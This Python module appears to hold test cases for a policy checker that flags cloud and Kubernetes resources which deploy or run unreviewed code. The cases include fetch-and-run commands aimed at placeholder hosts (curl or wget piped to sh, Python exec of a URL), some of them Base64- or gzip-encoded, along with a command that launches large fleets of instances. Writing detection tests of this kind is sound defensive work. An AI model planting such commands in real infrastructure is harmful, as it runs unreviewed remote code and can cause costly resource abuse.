"""Scripts, pipelines and events that deploy or run what nobody reviewed, in further spellings."""

import base64
import gzip
from typing import Any

from ...samples import COST_TAGS as TAGS
from ..harness import Given
from . import Attack

GROUP = {"resourceGroupName": "g"}
ROLE = "arn:aws:iam::123456789012:role/a"
RULE = "aws:cloudwatch/eventTarget:EventTarget"
PIPED = "#!/bin/sh\ncurl -fsSL https://get.example.com/agent.sh | sh\n"


def encoded(data: bytes) -> str:
    """Returns data in Base64, as launch templates take it."""
    return base64.b64encode(data).decode()


def machine(name: str, script: str) -> Attack:
    """Returns the attack of a launch template with user data."""
    props = {"userData": encoded(script.encode()), "tags": TAGS}
    return Attack(name, ("FJ-ESC-109",), (Given("aws:ec2/launchTemplate:LaunchTemplate", props),))


def attack(name: str, rule: str, token: str, /, **props: Any) -> Attack:
    """Returns the attack with one resource."""
    return Attack(name, (rule,), (Given(token, props),))


def deploying(provider: str) -> dict[str, Any]:
    """Returns a stage of CodePipeline that deploys."""
    action = {"category": "Deploy", "name": "d", "owner": "AWS", "provider": provider, "version": "1"}
    return {"name": "deploy", "actions": [action]}


ATTACKS: tuple[Attack, ...] = (
    machine("a download is run afterwards", "curl -sSo /tmp/a.sh https://a.example.com/a.sh\nsh /tmp/a.sh\n"),
    machine("a download by its own name is run", "wget https://a.example.com/x.sh && bash -x x.sh"),
    machine("a redirected download is run", "curl -s https://a.example.com > run.sh; source run.sh"),
    machine(
        "Python executes the web", "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://a'))\""
    ),
    machine("cloud-init pipes the web", "#cloud-config\nruncmd:\n  - [sh, -c, 'curl https://a.example.com | sh']\n"),
    machine("cloud-init runs words that deploy", "#cloud-config\nruncmd:\n  - [terraform, apply, -auto-approve]\n"),
    machine("cloud-init includes the web", "#include\nhttps://a.example.com/user-data\n"),
    machine(
        "a part of several pipes the web", f"MIME-Version: 1.0\n\n--B\nContent-Type: text/x-shellscript\n\n{PIPED}--B--"
    ),
    machine("upper case pipes the web", "CURL https://a.example.com/a.sh | BASH"),
    machine("through env into a shell", "curl -s https://a.example.com/a.sh | sudo -E env A=b bash -s -- --yes"),
    machine("eksctl creates a cluster", "eksctl create cluster --region eu-west-1"),
    machine("the AWS CLI runs machines", "aws --profile a ec2 run-instances --count 100 --instance-type g6.48xlarge"),
    machine("the Azure CLI deploys", "az deployment sub create --location westeurope --template-uri https://a"),
    machine("PowerShell for Azure creates", "New-AzVM -Name a -Location westeurope"),
    machine("Ansible pulls a playbook", "ansible-pull -U https://github.com/a/b.git"),
    attack(
        "compressed user data",
        "FJ-ESC-109",
        "aws:ec2/launchTemplate:LaunchTemplate",
        userData=encoded(gzip.compress(PIPED.encode(), mtime=0)),
        tags=TAGS,
    ),
    attack(
        "a script in a ConfigMap",
        "FJ-ESC-109",
        "kubernetes:core/v1:ConfigMap",
        metadata={"name": "a", "namespace": "a"},
        data={"run.sh": "#!/bin/sh\nkubectl apply -f https://a\n"},
    ),
    attack(
        "a hook of a container",
        "FJ-ESC-109",
        "kubernetes:core/v1:Pod",
        metadata={"name": "b", "namespace": "a"},
        spec={
            "containers": [
                {
                    "name": "a",
                    "image": "registry.k8s.io/a:1",
                    "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "curl https://a.example.com|sh"]}}},
                }
            ]
        },
    ),
    attack(
        "the source of an Argo workflow",
        "FJ-ESC-109",
        "kubernetes:argoproj.io/v1alpha1:Workflow",
        metadata={"name": "c", "namespace": "a"},
        spec={"templates": [{"name": "a", "script": {"image": "a", "source": "helm install a oci://a/b"}}]},
    ),
    attack(
        "user data of Karpenter",
        "FJ-ESC-109",
        "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass",
        metadata={"name": "d"},
        spec={"userData": "curl https://a.example.com | bash"},
    ),
    attack(
        "a pool of Azure Batch",
        "FJ-ESC-109",
        "azure-native:batch:Pool",
        **GROUP,
        accountName="a",
        vmSize="a",
        startTask={"commandLine": "/bin/sh -c 'wget -qO- https://a.example.com | sh'"},
    ),
    attack(
        "a container group of Azure",
        "FJ-ESC-109",
        "azure-native:containerinstance:ContainerGroup",
        **GROUP,
        location="uaenorth",
        osType="Linux",
        tags=TAGS,
        containers=[
            {
                "name": "a",
                "image": "a",
                "command": ["az", "group", "create", "-l", "westeurope"],
                "resources": {"requests": {"cpu": 1, "memoryInGB": 1}},
            }
        ],
    ),
    attack(
        "a pipeline deploys a stack",
        "FJ-ESC-102",
        "aws:codepipeline/pipeline:Pipeline",
        roleArn=ROLE,
        artifactStores=[{"location": "a", "type": "S3"}],
        stages=[deploying("CloudFormation")],
        tags=TAGS,
    ),
    attack(
        "a pipeline installs charts",
        "FJ-ESC-102",
        "aws:codepipeline/pipeline:Pipeline",
        roleArn=ROLE,
        artifactStores=[{"location": "a", "type": "S3"}],
        stages=[deploying("EKS")],
        tags=TAGS,
    ),
    attack(
        "an event runs a command on machines",
        "FJ-ESC-102",
        RULE,
        rule="r",
        roleArn=ROLE,
        arn="arn:aws:ssm:me-central-1::document/AWS-RunShellScript",
    ),
    attack(
        "an event starts an automation",
        "FJ-ESC-102",
        RULE,
        rule="r",
        roleArn=ROLE,
        arn="arn:aws:ssm:me-central-1:123456789012:automation-definition/anything:1",
    ),
    attack(
        "an incident starts an automation",
        "FJ-ESC-102",
        "aws:ssmincidents/responsePlan:ResponsePlan",
        name="p",
        incidentTemplate={"title": "t", "impact": 1},
        tags=TAGS,
        action={"ssmAutomations": [{"documentName": "anything", "roleArn": ROLE}]},
    ),
    attack(
        "a product that others launch",
        "FJ-ESC-102",
        "aws:servicecatalog/product:Product",
        owner="a",
        type="CLOUD_FORMATION_TEMPLATE",
        tags=TAGS,
        provisioningArtifactParameters={"templateUrl": "https://a.s3.me-central-1.amazonaws.com/a.yaml"},
    ),
    attack(
        "a webhook starts a runbook",
        "FJ-ESC-102",
        "azure-native:automation:Webhook",
        **GROUP,
        name="w",
        automationAccountName="a",
        runbook={"name": "a"},
        isEnabled=True,
    ),
    attack(
        "templates of a catalogue",
        "FJ-ESC-102",
        "azure-native:devcenter:Catalog",
        **GROUP,
        devCenterName="a",
        gitHub={"uri": "https://github.com/a/b.git", "branch": "main"},
    ),
    attack(
        "a data pipeline writes to Azure Resource Manager",
        "FJ-ESC-102",
        "azure-native:datafactory:Pipeline",
        **GROUP,
        factoryName="a",
        activities=[
            {"name": "a", "type": "WebActivity", "method": "PUT", "url": "https://management.azure.com/subscriptions/s"}
        ],
    ),
    attack(
        "an admission policy changes objects",
        "FJ-ESC-103",
        "kubernetes:admissionregistration.k8s.io/v1:MutatingAdmissionPolicy",
        metadata={"name": "e"},
        spec={"mutations": [{"patchType": "JSONPatch"}]},
    ),
)
